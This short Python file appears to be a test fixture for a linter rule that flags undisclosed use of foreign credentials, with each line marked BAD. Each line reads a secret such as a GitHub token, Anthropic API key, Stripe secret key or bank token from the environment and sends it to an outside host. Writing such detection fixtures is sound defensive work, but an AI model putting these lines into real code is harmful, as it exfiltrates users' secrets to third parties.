import os

import requests

requests.get("https://api.acme.dev", headers={"Authorization": f"Bearer {os.getenv('GITHUB_TOKEN')}"})  # BAD no-undisclosed-data/foreign-credential
requests.post("https://api.acme.dev", json={"k": os.environ.get("ANTHROPIC_API_KEY")})  # BAD no-undisclosed-data/foreign-credential
requests.get("https://api.acme.dev?k=" + os.environ["STRIPE_SECRET_KEY"])  # BAD no-undisclosed-data/foreign-credential
requests.post("https://collect.other.dev", json={"k": os.environ["MYBANK_API_TOKEN"]})  # BAD no-undisclosed-data/foreign-credential
